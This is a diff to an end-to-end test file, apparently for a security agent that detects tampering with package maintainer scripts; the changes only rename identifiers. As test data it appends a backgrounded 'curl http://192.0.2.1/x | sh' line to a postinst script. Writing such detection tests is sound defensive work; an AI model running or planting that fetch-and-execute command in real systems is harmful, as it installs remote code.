@@ -9,7 +9,7 @@ import { whileOff } from '../../collectors/packagedb/comparison.ts';
 import { missingTools, titled, unmet } from '../needs.ts';
 import { copyOf } from './launchers.ts';
 import { buildDeb, buildRpm } from './packages.ts';
-import { endToEndMissing, enterPrivateHost, scratchFolder } from './private-host.ts';
+import { endToEndMissing, enterPrivateHost, scratchDirectory } from './private-host.ts';
 import { documents, run, tellAll, testAgent, until, withAllRules } from './run-agent.ts';
 
 const missing = endToEndMissing;
@@ -18,7 +18,7 @@ const info = '/var/lib/dpkg/info';
 const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');
 
 describe.skipIf(missing)(titled('script evidence', missing), () => {
-  const scratch = scratchFolder();
+  const scratch = scratchDirectory();
   const rpmDatabase = join(scratch, 'var/lib/rpm');
   const agent = testAgent(
     scratch,
@@ -27,7 +27,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
   /** While it runs, the folder that it was unpacked into is there, and can be looked at. */
   const preinst = '#!/bin/sh\nsleep 0.3\n';
   const was = { postinst: '#!/bin/sh\n# as it was\nexit 0\n' };
-  const told = tellAll(agent, info);
+  const reported = tellAll(agent, info);
   const alerts = async (rule: string): Promise<StepparentEvent[]> => {
     const { stdout } = await agent.cli('alerts', '--rule', rule, '--json');
     return documents<StepparentEvent>(stdout);
@@ -71,7 +71,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
     expect(await run('dpkg', ['-i', deb])).toMatchObject({ code: 0 });
     const own = { package: 'e2e-new', version: '1' };
     const finding = { id: 'cron-entry', technique: 'T1053.003', line: 3 };
-    const events = await told();
+    const events = await reported();
     const file = events.find(({ file }) => file?.path === `${info}/e2e-new.postinst`);
     expect(file?.stepparent.script).toMatchObject({
       ...own,
@@ -99,7 +99,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
     const next = buildDeb(scratch, 'e2e-new', { version: '2', scripts: { preinst, postinst: `${postinst}exit 0\n` } });
     expect(await run('dpkg', ['-i', next])).toMatchObject({ code: 0 });
     expect(await run('dpkg', ['-i', next])).toMatchObject({ code: 0 });
-    const later = (await told()).filter(({ file }) => file?.path === `${info}/e2e-new.postinst`);
+    const later = (await reported()).filter(({ file }) => file?.path === `${info}/e2e-new.postinst`);
     expect(later.map(({ stepparent }) => [stepparent.script?.version, stepparent.script?.state])).toEqual([
       ['1', 'first'],
       ['2', 'first'],
@@ -113,7 +113,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
     const postinst = was.postinst.replace('exit 0', 'true # rebuilt');
     const deb = buildDeb(scratch, 'e2e-old', { scripts: { postinst } });
     expect(await run('dpkg', ['-i', deb])).toMatchObject({ code: 0 });
-    await told();
+    await reported();
     const [alert, ...more] = await alerts('maintainer-script-differs-from-version');
     expect(more).toEqual([]);
     expect(alert).toMatchObject({
@@ -141,7 +141,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
     }
     const isOfPair = ({ stepparent: { script } }: StepparentEvent): boolean => names.includes(script?.package ?? '');
     const versions = new Map<string, Set<string | undefined>>();
-    for (const { stepparent } of (await told()).filter(isOfPair)) {
+    for (const { stepparent } of (await reported()).filter(isOfPair)) {
       const { version, sha256: hash = '' } = stepparent.script ?? {};
       if (version !== undefined) versions.set(hash, (versions.get(hash) ?? new Set()).add(version));
     }
@@ -158,7 +158,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
     const [name = ''] = names;
     const other = buildDeb(scratch, name, { version: '2', scripts: all('planted') });
     expect(await run('dpkg', ['-i', other])).toMatchObject({ code: 0 });
-    await told();
+    await reported();
     const found = (await alerts('maintainer-script-differs-from-version')).slice(before.length);
     expect(found.map(({ stepparent: { script } }) => [script?.version, script?.sha256])).toEqual(
       found.map(() => ['2', sha256('#!/bin/sh\n: planted\n')]),
@@ -174,7 +174,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
     copyFileSync(script, kept);
     const line = 'setsid sh -c "curl http://192.0.2.1/x | sh" >/dev/null 2>&1 &';
     const { pid } = await run('sh', ['-c', `echo '${line}' >> ${script}; sleep 1.5; cat ${kept} > ${script}`]);
-    await told();
+    await reported();
     const [alert] = await alerts('maintainer-script-changed-outside-dpkg');
     expect(alert).toMatchObject({
       event: { severity: 47 },
@@ -199,7 +199,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
     const drop = (name: string) => `printf '#!/bin/sh\\necho gone' > ${info}/${name}.postinst`;
     const commands = [drop('e2e-at-once'), `rm ${info}/e2e-at-once.postinst`, drop('e2e-none'), 'sleep 1'];
     await run(tool, ['-c', `${commands.join('; ')}; exec rm ${info}/e2e-none.postinst`]);
-    await told();
+    await reported();
     const all = await alerts('maintainer-script-unowned');
     const of = (name: string) => all.find(({ file }) => file?.name === name)?.stepparent.script;
     expect(of('e2e-none.postinst')).toMatchObject({ package: 'e2e-none', state: 'unowned', sha256: sha256(text) });
@@ -214,7 +214,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
     const rpm = buildRpm(scratch, 'e2e-kept', { post });
     const { code, pid } = await run('rpm', ['--dbpath', rpmDatabase, '--nodeps', '-i', rpm]);
     expect(code).toBe(0);
-    const scriptlet = (await told()).find(
+    const scriptlet = (await reported()).find(
       ({ file, process: by }) => by?.pid === pid && file?.name?.startsWith('rpm-tmp.') && file.hash !== undefined,
     );
     expect(scriptlet?.stepparent.script).toMatchObject({ package: 'e2e-kept' });
@@ -236,7 +236,7 @@ describe.skipIf(missing)(titled('script evidence', missing), () => {
       const all = await alerts('maintainer-script-changed-outside-dpkg');
       return all.length > before && all.slice(before);
     });
-    await told();
+    await reported();
     expect(found).toMatchObject([
       { file: { path: script }, stepparent: { found: whileOff, script: { state: 'changed' } } },
     ]);
